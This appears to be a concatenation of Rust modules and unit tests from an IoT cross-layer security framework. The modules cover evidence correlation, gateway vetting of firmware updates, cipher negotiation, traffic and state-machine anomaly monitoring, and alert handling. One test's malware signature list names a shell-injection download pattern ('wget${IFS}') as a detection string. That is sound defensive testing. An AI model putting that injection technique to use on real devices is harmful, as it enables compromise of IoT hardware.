        let v = engine.evaluate_device(&store, "cam", now());
        assert_eq!(
            v.score, 0.0,
            "device-only monitor must not see network evidence"
        );
    }

    #[test]
    fn old_evidence_ages_out_of_the_window() {
        let engine = CorrelationEngine::new(CorrelationConfig {
            window: Duration::from_secs(30),
            ..Default::default()
        });
        let mut store = EvidenceStore::new();
        store.push(ev(10, "cam", Layer::Network, EvidenceKind::DpiMatch, 0.9));
        let v = engine.evaluate_device(&store, "cam", SimTime::from_secs(100));
        assert_eq!(v.score, 0.0);
    }

    #[test]
    fn mkl_refinement_improves_separation() {
        // Train: malicious windows have multi-layer suspicion; benign have
        // sporadic single-layer noise.
        let mut examples = Vec::new();
        for i in 0..10 {
            let malicious = vec![
                ev(i, "x", Layer::Device, EvidenceKind::AuthFailure, 0.8),
                ev(i, "x", Layer::Network, EvidenceKind::DpiMatch, 0.8),
                ev(i, "x", Layer::Service, EvidenceKind::ActionDenied, 0.7),
            ];
            examples.push((malicious, true));
            let benign = vec![ev(
                i,
                "y",
                Layer::Network,
                EvidenceKind::TrafficAnomaly,
                0.2,
            )];
            examples.push((benign, false));
        }
        let mut engine = CorrelationEngine::new(CorrelationConfig::default());
        engine.train_mkl(&examples);
        assert!(engine.has_mkl());

        let mut bad_store = EvidenceStore::new();
        bad_store.push(ev(90, "bot", Layer::Device, EvidenceKind::AuthFailure, 0.8));
        bad_store.push(ev(91, "bot", Layer::Network, EvidenceKind::DpiMatch, 0.8));
        bad_store.push(ev(
            92,
            "bot",
            Layer::Service,
            EvidenceKind::ActionDenied,
            0.7,
        ));
        let mut ok_store = EvidenceStore::new();
        ok_store.push(ev(
            90,
            "tv",
            Layer::Network,
            EvidenceKind::TrafficAnomaly,
            0.2,
        ));

        let bad = engine.evaluate_device(&bad_store, "bot", now());
        let ok = engine.evaluate_device(&ok_store, "tv", now());
        assert!(bad.score > 0.6, "bad score {}", bad.score);
        assert!(ok.score < 0.45, "ok score {}", ok.score);
    }

    #[test]
    fn evaluate_all_covers_active_devices() {
        let engine = CorrelationEngine::new(CorrelationConfig::default());
        let mut store = EvidenceStore::new();
        store.push(ev(10, "a", Layer::Device, EvidenceKind::AuthFailure, 0.5));
        store.push(ev(10, "b", Layer::Network, EvidenceKind::DpiMatch, 0.5));
        let verdicts = engine.evaluate_all(&store, now());
        assert_eq!(verdicts.len(), 2);
    }
}
