//! Proactive update vetting (§IV-A4): "all the firmware and software
//! updates should be examined by performing either deep packet inspection
//! or fingerprint identifications" — executed at the gateway so even a
//! device that would accept a bad image never receives it.

use crate::bus::EvidenceBus;
use crate::evidence::{Evidence, EvidenceKind, Layer};
use xlf_device::firmware::FirmwareImage;
use xlf_simnet::SimTime;

/// Why an update was blocked.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum VetRejection {
    /// Could not parse the image at all.
    Malformed,
    /// Unsigned while the policy requires signatures.
    Unsigned,
    /// Signature present but invalid for the claimed vendor.
    BadSignature,
    /// Payload matched a malware signature.
    SignatureHit {
        /// The matched signature (lossy string form).
        signature: String,
    },
    /// Vendor not in the trust list.
    UnknownVendor {
        /// Claimed vendor name.
        vendor: String,
    },
}

/// The gateway's update vetter.
#[derive(Debug)]
pub struct UpdateVetter {
    /// (vendor, secret) trust anchors.
    trusted_vendors: Vec<(String, Vec<u8>)>,
    /// Malware byte signatures scanned in payloads.
    signatures: Vec<Vec<u8>>,
    bus: Option<EvidenceBus>,
    /// (passed, blocked) counters.
    pub decisions: (u64, u64),
}

impl UpdateVetter {
    /// Creates a vetter with the given malware signature set.
    pub fn new(signatures: &[&[u8]]) -> Self {
        UpdateVetter {
            trusted_vendors: Vec::new(),
            signatures: signatures.iter().map(|s| s.to_vec()).collect(),
            bus: None,
            decisions: (0, 0),
        }
    }

    /// Trusts a vendor's signing secret.
    pub fn trust_vendor(&mut self, vendor: &str, secret: &[u8]) {
        self.trusted_vendors
            .push((vendor.to_string(), secret.to_vec()));
    }

    /// Attaches the evidence bus.
    pub fn with_bus(mut self, bus: EvidenceBus) -> Self {
        self.bus = Some(bus);
        self
    }

    /// Vets raw OTA bytes destined for `device`.
    ///
    /// # Errors
    ///
    /// [`VetRejection`] describing why the image may not pass; every
    /// rejection is reported to the Core as
    /// [`EvidenceKind::FirmwareRejected`].
    pub fn vet(
        &mut self,
        device: &str,
        bytes: &[u8],
        now: SimTime,
    ) -> Result<FirmwareImage, VetRejection> {
        let result = self.vet_inner(bytes);
        match &result {
            Ok(_) => self.decisions.0 += 1,
            Err(rejection) => {
                self.decisions.1 += 1;
                if let Some(bus) = &self.bus {
                    bus.report(Evidence::new(
                        now,
                        Layer::Device,
                        device,
                        EvidenceKind::FirmwareRejected,
                        0.8,
                        &format!("{rejection:?}"),
                    ));
                }
            }
        }
        result
    }

    fn vet_inner(&self, bytes: &[u8]) -> Result<FirmwareImage, VetRejection> {
        let image = FirmwareImage::from_bytes(bytes).map_err(|_| VetRejection::Malformed)?;
        if image.signature.is_none() {
            return Err(VetRejection::Unsigned);
        }
        let Some((_, secret)) = self
            .trusted_vendors
            .iter()
            .find(|(v, _)| *v == image.vendor)
        else {
            return Err(VetRejection::UnknownVendor {
                vendor: image.vendor.clone(),
            });
        };
        if image.verify(secret).is_err() {
            return Err(VetRejection::BadSignature);
        }
        for sig in &self.signatures {
            if image
                .payload
                .windows(sig.len().max(1))
                .any(|w| w == &sig[..])
            {
                return Err(VetRejection::SignatureHit {
                    signature: String::from_utf8_lossy(sig).to_string(),
                });
            }
        }
        Ok(image)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::EvidenceStore;
    use xlf_device::firmware::Version;

    const VENDOR_SECRET: &[u8] = b"acme vendor secret";

    fn vetter() -> UpdateVetter {
        let mut v = UpdateVetter::new(&[b"BOTNET", b"wget${IFS}"]);
        v.trust_vendor("acme", VENDOR_SECRET);
        v
    }

    #[test]
    fn clean_signed_updates_pass() {
        let mut v = vetter();
        let image = FirmwareImage::signed(
            Version(2, 0, 0),
            "acme",
            b"clean v2".to_vec(),
            VENDOR_SECRET,
        );
        assert!(v.vet("cam", &image.to_bytes(), SimTime::ZERO).is_ok());
        assert_eq!(v.decisions, (1, 0));
    }

    #[test]
    fn unsigned_updates_are_blocked_at_the_gateway() {
        let mut v = vetter();
        let image = FirmwareImage::unsigned(Version(2, 0, 0), "acme", b"clean".to_vec());
        assert_eq!(
            v.vet("cam", &image.to_bytes(), SimTime::ZERO),
            Err(VetRejection::Unsigned)
        );
    }

    #[test]
    fn unknown_vendors_are_blocked() {
        let mut v = vetter();
        let image =
            FirmwareImage::signed(Version(2, 0, 0), "mallory", b"x".to_vec(), b"mallory key");
        assert!(matches!(
            v.vet("cam", &image.to_bytes(), SimTime::ZERO),
            Err(VetRejection::UnknownVendor { .. })
        ));
    }

    #[test]
    fn forged_signatures_are_blocked() {
        let mut v = vetter();
        let image = FirmwareImage::signed(Version(2, 0, 0), "acme", b"x".to_vec(), b"wrong key");
        assert_eq!(
            v.vet("cam", &image.to_bytes(), SimTime::ZERO),
            Err(VetRejection::BadSignature)
        );
    }

    #[test]
    fn malware_payloads_are_caught_even_when_validly_signed() {
        // Supply-chain case: valid vendor signature over an infected
        // payload — the DPI scan still catches the implant string.
        let mut v = vetter();
        let image = FirmwareImage::signed(
            Version(2, 0, 0),
            "acme",
            b"firmware with BOTNET implant".to_vec(),
            VENDOR_SECRET,
        );
        assert!(matches!(
            v.vet("cam", &image.to_bytes(), SimTime::ZERO),
            Err(VetRejection::SignatureHit { .. })
        ));
    }

    #[test]
    fn garbage_bytes_are_malformed() {
        let mut v = vetter();
        assert_eq!(
            v.vet("cam", &[1, 2, 3], SimTime::ZERO),
            Err(VetRejection::Malformed)
        );
    }

    #[test]
    fn rejections_emit_evidence() {
        let (bus, drain) = EvidenceBus::new();
        let mut v = vetter().with_bus(bus);
        let image = FirmwareImage::unsigned(Version(1, 0, 0), "acme", b"x".to_vec());
        let _ = v.vet("cam", &image.to_bytes(), SimTime::ZERO);
        let mut store = EvidenceStore::new();
        drain.drain_into(&mut store);
        assert_eq!(store.all()[0].kind, EvidenceKind::FirmwareRejected);
    }
}
