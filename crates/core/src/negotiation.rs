//! Lightweight-cipher negotiation (§IV-A2): "the proposed lightweight
//! algorithms need to be adopted by the vendors to provide end-to-end
//! data security and integrity" — but which algorithm fits which device
//! is dictated by the Table I resource envelope. The XLF Core negotiates
//! the strongest cipher each device can sustain and derives per-device
//! session keys.

use crate::bus::EvidenceBus;
use crate::evidence::{Evidence, EvidenceKind, Layer};
use xlf_device::{CryptoFeasibility, DeviceSpec, ResourceModel};
use xlf_lwcrypto::kdf::derive_key;
use xlf_lwcrypto::{registry, CipherInfo};
use xlf_simnet::SimTime;

/// A negotiated cryptographic session for one device.
#[derive(Debug, Clone, PartialEq)]
pub struct NegotiatedSession {
    /// Device the session belongs to.
    pub device: String,
    /// The selected algorithm.
    pub cipher: CipherInfo,
    /// Derived session key (length = the cipher's smallest key).
    pub session_key: Vec<u8>,
    /// Estimated throughput on the device (bytes/second).
    pub throughput_bps: f64,
}

/// Negotiation failure.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum NegotiationError {
    /// The device cannot run any candidate at the required rate.
    NoFeasibleCipher {
        /// Device concerned.
        device: String,
    },
}

impl std::fmt::Display for NegotiationError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            NegotiationError::NoFeasibleCipher { device } => {
                write!(f, "no feasible cipher for device {device}")
            }
        }
    }
}

impl std::error::Error for NegotiationError {}

/// The negotiator.
#[derive(Debug)]
pub struct CipherNegotiator {
    candidates: Vec<CipherInfo>,
    master_secret: Vec<u8>,
    bus: Option<EvidenceBus>,
}

impl CipherNegotiator {
    /// Creates a negotiator over the full Table III registry.
    pub fn new(master_secret: &[u8]) -> Self {
        CipherNegotiator {
            candidates: registry(b"negotiation catalog")
                .iter()
                .map(|c| c.info())
                .collect(),
            master_secret: master_secret.to_vec(),
            bus: None,
        }
    }

    /// Attaches the evidence bus (failures become Core evidence).
    pub fn with_bus(mut self, bus: EvidenceBus) -> Self {
        self.bus = Some(bus);
        self
    }

    /// Negotiates for one device at the required sustained rate.
    ///
    /// # Errors
    ///
    /// [`NegotiationError::NoFeasibleCipher`] when nothing fits; also
    /// reported to the Core as [`EvidenceKind::TelemetryAnomaly`]-grade
    /// context so policy can flag unprotectable devices.
    pub fn negotiate(
        &self,
        device_name: &str,
        spec: &DeviceSpec,
        required_bps: f64,
        now: SimTime,
    ) -> Result<NegotiatedSession, NegotiationError> {
        let model = ResourceModel::new(spec.clone());
        let Some(chosen) = model.negotiate_cipher(&self.candidates, required_bps) else {
            if let Some(bus) = &self.bus {
                bus.report(Evidence::new(
                    now,
                    Layer::Device,
                    device_name,
                    EvidenceKind::TelemetryAnomaly,
                    0.4,
                    &format!("no feasible cipher at {required_bps} B/s — device unprotectable"),
                ));
            }
            return Err(NegotiationError::NoFeasibleCipher {
                device: device_name.to_string(),
            });
        };
        let throughput = match model.crypto_feasibility(chosen, required_bps) {
            CryptoFeasibility::Fits { throughput_bps } => throughput_bps,
            _ => unreachable!("negotiate_cipher only returns fitting ciphers"),
        };
        let key_len = chosen.key_bits.iter().min().copied().unwrap_or(128) / 8;
        let session_key = derive_key(
            &self.master_secret,
            &format!("session/{device_name}/{}", chosen.name),
            key_len,
        )
        .expect("valid kdf parameters");
        Ok(NegotiatedSession {
            device: device_name.to_string(),
            cipher: chosen.clone(),
            session_key,
            throughput_bps: throughput,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::EvidenceStore;
    use xlf_device::DeviceClass;

    #[test]
    fn sensors_get_a_lightweight_cipher() {
        let negotiator = CipherNegotiator::new(b"home master");
        let spec = DeviceSpec::of(DeviceClass::SensorDevice);
        let session = negotiator
            .negotiate("soil-sensor", &spec, 500.0, SimTime::ZERO)
            .unwrap();
        assert!(session.throughput_bps >= 500.0);
        assert!(!session.session_key.is_empty());
    }

    #[test]
    fn tvs_get_a_256_bit_capable_cipher() {
        let negotiator = CipherNegotiator::new(b"home master");
        let spec = DeviceSpec::of(DeviceClass::SamsungSmartTv);
        let session = negotiator
            .negotiate("tv", &spec, 100_000.0, SimTime::ZERO)
            .unwrap();
        assert!(session.cipher.key_bits.contains(&256));
    }

    #[test]
    fn passive_tags_fail_with_evidence() {
        let (bus, drain) = EvidenceBus::new();
        let negotiator = CipherNegotiator::new(b"home master").with_bus(bus);
        let spec = DeviceSpec::of(DeviceClass::HidGlassTagRfid);
        let err = negotiator
            .negotiate("tag", &spec, 10.0, SimTime::ZERO)
            .unwrap_err();
        assert!(matches!(err, NegotiationError::NoFeasibleCipher { .. }));
        let mut store = EvidenceStore::new();
        assert_eq!(drain.drain_into(&mut store), 1);
    }

    #[test]
    fn session_keys_are_per_device_and_deterministic() {
        let negotiator = CipherNegotiator::new(b"home master");
        let spec = DeviceSpec::of(DeviceClass::SensorDevice);
        let a = negotiator
            .negotiate("s1", &spec, 100.0, SimTime::ZERO)
            .unwrap();
        let b = negotiator
            .negotiate("s2", &spec, 100.0, SimTime::ZERO)
            .unwrap();
        let a2 = negotiator
            .negotiate("s1", &spec, 100.0, SimTime::ZERO)
            .unwrap();
        assert_ne!(a.session_key, b.session_key);
        assert_eq!(a.session_key, a2.session_key);
    }
}
