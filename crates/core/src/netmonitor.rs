//! Malicious-activity identification (§IV-B3): per-device traffic-rate
//! anomaly detection (the DDoS signal) and behavioural DFA monitoring of
//! state transitions ("a Deterministic Finite Automation could be used to
//! reflect normal device behaviors").

use crate::bus::EvidenceBus;
use crate::evidence::{Evidence, EvidenceKind, Layer};
use std::collections::BTreeMap;
use xlf_analytics::dfa::Dfa;
use xlf_analytics::timeseries::EwmaDetector;
use xlf_simnet::{Duration, SimTime};

/// Per-device network monitor.
#[derive(Debug)]
pub struct NetMonitor {
    /// Packet-rate detectors per device (packets per window).
    rate: BTreeMap<String, (EwmaDetector, u64, SimTime)>,
    /// Behavioural DFA per device.
    dfa: BTreeMap<String, (Dfa, String)>,
    /// Rate window.
    pub window: Duration,
    /// Whether the DFA is in training (benign period) or enforcement.
    pub learning: bool,
    bus: Option<EvidenceBus>,
}

impl NetMonitor {
    /// Creates a monitor with 1-second rate windows, starting in learning
    /// mode.
    pub fn new() -> Self {
        NetMonitor {
            rate: BTreeMap::new(),
            dfa: BTreeMap::new(),
            window: Duration::from_secs(1),
            learning: true,
            bus: None,
        }
    }

    /// Attaches the evidence bus.
    pub fn with_bus(mut self, bus: EvidenceBus) -> Self {
        self.bus = Some(bus);
        self
    }

    /// Switches from learning to enforcement.
    pub fn finish_learning(&mut self) {
        self.learning = false;
    }

    /// Feeds one outgoing packet from `device`; closes rate windows and
    /// raises anomalies as needed.
    pub fn observe_packet(&mut self, device: &str, now: SimTime) {
        let entry = self.rate.entry(device.to_string()).or_insert_with(|| {
            let mut d = EwmaDetector::new(0.3, 6.0);
            d.warmup = 5;
            (d, 0, now)
        });
        if now.since(entry.2) >= self.window {
            let count = entry.1 as f64;
            entry.1 = 0;
            entry.2 = now;
            let anomalous = entry.0.observe(count);
            if anomalous && !self.learning {
                if let Some(bus) = &self.bus {
                    bus.report(Evidence::new(
                        now,
                        Layer::Network,
                        device,
                        EvidenceKind::TrafficAnomaly,
                        0.8,
                        &format!("packet rate {count}/window far above baseline"),
                    ));
                }
            }
        }
        self.rate.get_mut(device).expect("just inserted").1 += 1;
    }

    /// Feeds one state-transition event (from hub-observed `event`
    /// packets). During learning, transitions train the DFA; afterwards,
    /// unknown transitions raise evidence.
    pub fn observe_transition(
        &mut self,
        device: &str,
        from: &str,
        symbol: &str,
        to: &str,
        now: SimTime,
    ) {
        let (dfa, _) = self
            .dfa
            .entry(device.to_string())
            .or_insert_with(|| (Dfa::new(), String::new()));
        if self.learning {
            dfa.train(&[(from.to_string(), symbol.to_string(), to.to_string())]);
            return;
        }
        let verdict = dfa.check(from, symbol, to);
        if verdict.is_anomalous() {
            if let Some(bus) = &self.bus {
                bus.report(Evidence::new(
                    now,
                    Layer::Network,
                    device,
                    EvidenceKind::DfaViolation,
                    0.85,
                    &format!("transition {from} --{symbol}--> {to} outside learned behaviour"),
                ));
            }
        } else if let Some(bus) = &self.bus {
            bus.report(Evidence::new(
                now,
                Layer::Network,
                device,
                EvidenceKind::StateTransition,
                0.0,
                &format!("{from} --{symbol}--> {to}"),
            ));
        }
    }

    /// Devices with a trained DFA.
    pub fn profiled_devices(&self) -> usize {
        self.dfa.len()
    }
}

impl Default for NetMonitor {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::EvidenceStore;

    fn drain_kinds(drain: &crate::bus::EvidenceDrain) -> Vec<EvidenceKind> {
        let mut store = EvidenceStore::new();
        drain.drain_into(&mut store);
        store.all().iter().map(|e| e.kind).collect()
    }

    #[test]
    fn steady_telemetry_rate_raises_nothing() {
        let (bus, drain) = EvidenceBus::new();
        let mut mon = NetMonitor::new().with_bus(bus);
        // Learn for 30 windows, then enforce 30 more at the same rate.
        for s in 0..30 {
            for _ in 0..3 {
                mon.observe_packet("lamp", SimTime::from_secs(s));
            }
        }
        mon.finish_learning();
        for s in 30..60 {
            for _ in 0..3 {
                mon.observe_packet("lamp", SimTime::from_secs(s));
            }
        }
        assert!(drain_kinds(&drain).is_empty());
    }

    #[test]
    fn ddos_burst_raises_traffic_anomaly() {
        let (bus, drain) = EvidenceBus::new();
        let mut mon = NetMonitor::new().with_bus(bus);
        for s in 0..30 {
            for _ in 0..3 {
                mon.observe_packet("cam", SimTime::from_secs(s));
            }
        }
        mon.finish_learning();
        // Flood: 500 packets/window.
        for s in 30..35 {
            for _ in 0..500 {
                mon.observe_packet("cam", SimTime::from_secs(s));
            }
        }
        let kinds = drain_kinds(&drain);
        assert!(
            kinds.contains(&EvidenceKind::TrafficAnomaly),
            "flood must be flagged, got {kinds:?}"
        );
    }

    #[test]
    fn dfa_learns_then_flags_novel_transitions() {
        let (bus, drain) = EvidenceBus::new();
        let mut mon = NetMonitor::new().with_bus(bus);
        for _ in 0..5 {
            mon.observe_transition("cam", "idle", "cmd", "streaming", SimTime::ZERO);
            mon.observe_transition("cam", "streaming", "cmd", "idle", SimTime::ZERO);
        }
        mon.finish_learning();
        mon.observe_transition("cam", "idle", "cmd", "streaming", SimTime::from_secs(1));
        mon.observe_transition(
            "cam",
            "idle",
            "exploit",
            "compromised",
            SimTime::from_secs(2),
        );
        let kinds = drain_kinds(&drain);
        assert_eq!(
            kinds
                .iter()
                .filter(|k| **k == EvidenceKind::DfaViolation)
                .count(),
            1
        );
        assert_eq!(
            kinds
                .iter()
                .filter(|k| **k == EvidenceKind::StateTransition)
                .count(),
            1
        );
        assert_eq!(mon.profiled_devices(), 1);
    }

    #[test]
    fn learning_mode_is_silent() {
        let (bus, drain) = EvidenceBus::new();
        let mut mon = NetMonitor::new().with_bus(bus);
        mon.observe_transition("cam", "idle", "weird", "compromised", SimTime::ZERO);
        for _ in 0..1000 {
            mon.observe_packet("cam", SimTime::ZERO);
        }
        assert!(drain_kinds(&drain).is_empty());
    }
}
