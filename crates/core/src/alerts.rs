//! The alert pipeline: correlation verdicts become deduplicated,
//! severity-ranked alerts.

use std::fmt;
use xlf_simnet::{Duration, SimTime};

/// Alert severity.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Severity {
    /// Informational: single-layer, low-weight signal.
    Info,
    /// Suspicious: corroborated or high-weight signal.
    Warning,
    /// Confirmed incident: cross-layer corroboration.
    Critical,
}

impl fmt::Display for Severity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{self:?}")
    }
}

/// A raised alert.
#[derive(Debug, Clone, PartialEq)]
pub struct Alert {
    /// When raised.
    pub at: SimTime,
    /// Device concerned.
    pub device: String,
    /// Severity.
    pub severity: Severity,
    /// Fused suspicion score that triggered the alert.
    pub score: f64,
    /// Explanation (contributing layers/kinds).
    pub explanation: String,
}

/// Collects alerts with per-device deduplication.
#[derive(Debug)]
pub struct AlertSink {
    alerts: Vec<Alert>,
    /// Minimum spacing between same-device, same-severity alerts.
    pub dedup_window: Duration,
}

impl Default for AlertSink {
    fn default() -> Self {
        Self::new()
    }
}

impl AlertSink {
    /// Creates a sink with a 60-second dedup window.
    pub fn new() -> Self {
        AlertSink {
            alerts: Vec::new(),
            dedup_window: Duration::from_secs(60),
        }
    }

    /// Raises an alert unless an equal-or-higher-severity alert for the
    /// same device fired within the dedup window. Returns whether it was
    /// recorded.
    pub fn raise(&mut self, alert: Alert) -> bool {
        let duplicate = self.alerts.iter().any(|a| {
            a.device == alert.device
                && a.severity >= alert.severity
                && alert.at.since(a.at) <= self.dedup_window
        });
        if duplicate {
            return false;
        }
        self.alerts.push(alert);
        true
    }

    /// All recorded alerts.
    pub fn alerts(&self) -> &[Alert] {
        &self.alerts
    }

    /// Alerts at or above a severity.
    pub fn at_least(&self, severity: Severity) -> Vec<&Alert> {
        self.alerts
            .iter()
            .filter(|a| a.severity >= severity)
            .collect()
    }

    /// Number of alerts at or above a severity — the allocation-free
    /// counterpart of [`AlertSink::at_least`] for per-slice probing.
    pub fn count_at_least(&self, severity: Severity) -> usize {
        self.alerts
            .iter()
            .filter(|a| a.severity >= severity)
            .count()
    }

    /// True if any alert at/above severity exists for the device.
    pub fn has_alert(&self, device: &str, severity: Severity) -> bool {
        self.alerts
            .iter()
            .any(|a| a.device == device && a.severity >= severity)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn alert(at_s: u64, device: &str, severity: Severity) -> Alert {
        Alert {
            at: SimTime::from_secs(at_s),
            device: device.to_string(),
            severity,
            score: 0.9,
            explanation: "test".to_string(),
        }
    }

    #[test]
    fn severity_orders() {
        assert!(Severity::Critical > Severity::Warning);
        assert!(Severity::Warning > Severity::Info);
    }

    #[test]
    fn duplicates_within_window_are_suppressed() {
        let mut sink = AlertSink::new();
        assert!(sink.raise(alert(0, "cam", Severity::Warning)));
        assert!(!sink.raise(alert(30, "cam", Severity::Warning)));
        // After the window, the same alert is news again.
        assert!(sink.raise(alert(100, "cam", Severity::Warning)));
        assert_eq!(sink.alerts().len(), 2);
    }

    #[test]
    fn escalation_is_never_suppressed() {
        let mut sink = AlertSink::new();
        sink.raise(alert(0, "cam", Severity::Warning));
        assert!(sink.raise(alert(10, "cam", Severity::Critical)));
    }

    #[test]
    fn lower_severity_after_higher_is_suppressed() {
        let mut sink = AlertSink::new();
        sink.raise(alert(0, "cam", Severity::Critical));
        assert!(!sink.raise(alert(10, "cam", Severity::Info)));
    }

    #[test]
    fn per_device_independence() {
        let mut sink = AlertSink::new();
        sink.raise(alert(0, "cam", Severity::Warning));
        assert!(sink.raise(alert(1, "lamp", Severity::Warning)));
        assert!(sink.has_alert("cam", Severity::Info));
        assert!(!sink.has_alert("cam", Severity::Critical));
        assert_eq!(sink.at_least(Severity::Warning).len(), 2);
    }
}
