//! Cross-layer evidence: the observation records every XLF mechanism
//! emits and the XLF Core aggregates (§IV-D: "aggregates the raw and the
//! detection results whenever necessary from each layer").

use std::fmt;
use xlf_simnet::{Duration, SimTime};

/// The architectural layer an observation came from (Figure 1).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Layer {
    /// Device layer (firmware, credentials, storage).
    Device,
    /// Network layer (gateway, traffic).
    Network,
    /// Service layer (cloud, apps, APIs).
    Service,
}

impl fmt::Display for Layer {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{self:?}")
    }
}

/// What was observed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum EvidenceKind {
    /// Failed login / token validation.
    AuthFailure,
    /// Successful authentication (baseline signal).
    AuthSuccess,
    /// OTA image rejected (bad signature, downgrade, scan hit).
    FirmwareRejected,
    /// DPI rule matched in traffic.
    DpiMatch,
    /// Traffic rate/volume anomaly.
    TrafficAnomaly,
    /// Behavioural DFA violation.
    DfaViolation,
    /// Cloud event failed integrity/policy checks.
    EventRejected,
    /// API request denied (scope, rate, auth).
    ApiDenied,
    /// DNS resolution blocked or failed validation.
    DnsBlocked,
    /// Destination blocked by constrained access.
    DestinationBlocked,
    /// Telemetry deviated from its learned baseline.
    TelemetryAnomaly,
    /// App action denied by the permission model.
    ActionDenied,
    /// Benign state transition (context for the DFA and analytics).
    StateTransition,
}

/// One observation.
#[derive(Debug, Clone, PartialEq)]
pub struct Evidence {
    /// When it was observed.
    pub at: SimTime,
    /// Which layer observed it.
    pub layer: Layer,
    /// The device (or principal) it concerns.
    pub device: String,
    /// What was observed.
    pub kind: EvidenceKind,
    /// Mechanism-assigned weight in `[0, 1]` (how suspicious in
    /// isolation).
    pub weight: f64,
    /// Human-readable detail.
    pub detail: String,
}

impl Evidence {
    /// Creates an evidence record.
    pub fn new(
        at: SimTime,
        layer: Layer,
        device: &str,
        kind: EvidenceKind,
        weight: f64,
        detail: &str,
    ) -> Self {
        Evidence {
            at,
            layer,
            device: device.to_string(),
            kind,
            weight: weight.clamp(0.0, 1.0),
            detail: detail.to_string(),
        }
    }
}

/// The Core's aggregated store.
#[derive(Debug, Default)]
pub struct EvidenceStore {
    records: Vec<Evidence>,
}

impl EvidenceStore {
    /// Creates an empty store.
    pub fn new() -> Self {
        EvidenceStore::default()
    }

    /// Appends a record.
    pub fn push(&mut self, evidence: Evidence) {
        self.records.push(evidence);
    }

    /// All records.
    pub fn all(&self) -> &[Evidence] {
        &self.records
    }

    /// Records concerning `device` within the window ending at `now`.
    pub fn for_device(&self, device: &str, now: SimTime, window: Duration) -> Vec<&Evidence> {
        self.records
            .iter()
            .filter(|e| e.device == device && now.since(e.at) <= window)
            .collect()
    }

    /// Distinct devices with any evidence in the window.
    pub fn active_devices(&self, now: SimTime, window: Duration) -> Vec<String> {
        let mut devices: Vec<String> = self
            .records
            .iter()
            .filter(|e| now.since(e.at) <= window)
            .map(|e| e.device.clone())
            .collect();
        devices.sort();
        devices.dedup();
        devices
    }

    /// Number of stored records.
    pub fn len(&self) -> usize {
        self.records.len()
    }

    /// True when empty.
    pub fn is_empty(&self) -> bool {
        self.records.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ev(at_s: u64, device: &str, kind: EvidenceKind, layer: Layer) -> Evidence {
        Evidence::new(SimTime::from_secs(at_s), layer, device, kind, 0.5, "test")
    }

    #[test]
    fn window_queries_filter_by_device_and_time() {
        let mut store = EvidenceStore::new();
        store.push(ev(10, "cam", EvidenceKind::DpiMatch, Layer::Network));
        store.push(ev(50, "cam", EvidenceKind::DfaViolation, Layer::Network));
        store.push(ev(50, "lamp", EvidenceKind::AuthFailure, Layer::Device));

        let now = SimTime::from_secs(60);
        let recent_cam = store.for_device("cam", now, Duration::from_secs(20));
        assert_eq!(recent_cam.len(), 1);
        assert_eq!(recent_cam[0].kind, EvidenceKind::DfaViolation);

        let all_cam = store.for_device("cam", now, Duration::from_secs(100));
        assert_eq!(all_cam.len(), 2);
    }

    #[test]
    fn active_devices_deduplicates() {
        let mut store = EvidenceStore::new();
        store.push(ev(1, "cam", EvidenceKind::DpiMatch, Layer::Network));
        store.push(ev(2, "cam", EvidenceKind::DpiMatch, Layer::Network));
        store.push(ev(3, "lamp", EvidenceKind::AuthFailure, Layer::Device));
        let devices = store.active_devices(SimTime::from_secs(5), Duration::from_secs(10));
        assert_eq!(devices, vec!["cam".to_string(), "lamp".to_string()]);
    }

    #[test]
    fn weight_is_clamped() {
        let e = Evidence::new(
            SimTime::ZERO,
            Layer::Device,
            "d",
            EvidenceKind::AuthFailure,
            7.0,
            "x",
        );
        assert_eq!(e.weight, 1.0);
    }
}
