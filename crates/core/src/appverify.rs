//! Application verification (§IV-C2): "monitoring and profiling the state
//! transition patterns" of cloud applications from the *user end* —
//! robust even if the cloud itself is compromised. Every command reaching
//! a device must be explained by a recent, legitimate trigger event the
//! gateway itself witnessed; unexplained commands are the fingerprint of
//! spoofed events, compromised clouds, or over-privileged apps.

use crate::bus::EvidenceBus;
use crate::evidence::{Evidence, EvidenceKind, Layer};
use std::collections::VecDeque;
use xlf_simnet::{Duration, SimTime};

/// A witnessed trigger: the gateway saw this device report this attribute
/// value at this time.
#[derive(Debug, Clone, PartialEq)]
pub struct WitnessedEvent {
    /// Reporting device.
    pub device: String,
    /// Attribute.
    pub attribute: String,
    /// Value reported.
    pub value: String,
    /// When witnessed.
    pub at: SimTime,
}

/// A learned causal pattern: commands to `target` are explained by
/// matching recent events from `trigger_device.attribute`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CausalRule {
    /// Device whose events legitimately cause the command.
    pub trigger_device: String,
    /// Attribute of the trigger.
    pub trigger_attribute: String,
    /// Device the command targets.
    pub target_device: String,
    /// The command.
    pub command: String,
}

/// The gateway-side verifier.
#[derive(Debug)]
pub struct AppVerifier {
    rules: Vec<CausalRule>,
    witnessed: VecDeque<WitnessedEvent>,
    /// How recent a trigger must be to explain a command.
    pub causality_window: Duration,
    /// Whether observations currently train rules instead of enforcing.
    pub learning: bool,
    bus: Option<EvidenceBus>,
    /// (explained, unexplained) command counts.
    pub stats: (u64, u64),
}

impl AppVerifier {
    /// Creates a verifier in learning mode with a 30-second causality
    /// window.
    pub fn new() -> Self {
        AppVerifier {
            rules: Vec::new(),
            witnessed: VecDeque::new(),
            causality_window: Duration::from_secs(30),
            learning: true,
            bus: None,
            stats: (0, 0),
        }
    }

    /// Attaches the evidence bus.
    pub fn with_bus(mut self, bus: EvidenceBus) -> Self {
        self.bus = Some(bus);
        self
    }

    /// Ends the learning phase.
    pub fn finish_learning(&mut self) {
